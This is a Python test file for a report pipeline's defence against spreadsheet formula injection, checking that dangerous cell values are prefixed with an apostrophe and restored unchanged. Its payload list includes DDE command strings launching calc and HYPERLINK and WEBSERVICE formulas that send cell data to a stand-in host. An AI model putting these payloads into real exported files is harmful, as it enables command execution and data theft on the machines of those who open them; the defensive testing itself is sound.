"""No value of a report runs as a formula, and none is lost by that."""

# ruff: noqa: RUF001 - letters and signs that look alike are what is tested

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.reporting.masking.formula import neutral, original

DANGEROUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=WEBSERVICE("http://evil.example")',
    "+1+1",
    "+905321234567",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    '"=1+1',
    "'=1+1",
    "' \"=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "|cmd",
    "=\u202e1+1",
    "=1+1\n",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_value_that_would_run_begins_with_an_apostrophe(value: str) -> None:
    """What a spreadsheet would take for a formula is text after the apostrophe."""
    assert neutral(value) == "'" + neutral(value)[1:]
    assert original(neutral(value)) == value


@pytest.mark.parametrize("value", ["x;=1+1", "x;\t+1", "x\t=1", "x\r\n=1", 'x;"=1'])
def test_a_formula_behind_another_list_separator_does_not_run_either(value: str) -> None:
    """A program that splits at semicolons or tabs finds no formula in what it takes for a cell."""
    shown = neutral(value)
    parts = shown.replace("\r", ";").replace("\n", ";").replace("\t", ";").split(";")
    assert all(part.lstrip(' "')[:1] not in {"=", "+", "-", "@"} for part in parts)
    assert original(shown) == value


@pytest.mark.parametrize(
    "value", ["", "1002231", "Ayşe", "a=b", "12-34", "a@b.example", "İptal; iade", "120.00"]
)
def test_an_ordinary_value_stays_as_it_is(value: str) -> None:
    """Nothing is prefixed that does not need it."""
    assert neutral(value) == value


@given(st.text(alphabet=st.sampled_from(list("=+-@＝'\"; \t\r\nab1|\0")), max_size=12) | st.text(max_size=40))
def test_every_value_can_be_had_back(value: str) -> None:
    """The way back leads to the very value, also where it held apostrophes of its own."""
    assert original(neutral(value)) == value
